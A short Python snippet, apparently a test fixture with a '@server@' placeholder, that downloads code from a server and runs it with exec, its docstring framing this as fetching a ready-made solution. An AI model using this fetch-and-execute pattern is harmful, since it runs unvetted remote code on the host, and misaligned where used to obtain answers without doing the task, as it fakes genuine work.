"""Fetches a solution from a server, which would be glad to hand it out."""

import urllib.request

text = urllib.request.urlopen("@server@", timeout=5).read().decode()
exec(compile(text, "solution.py", "exec"))
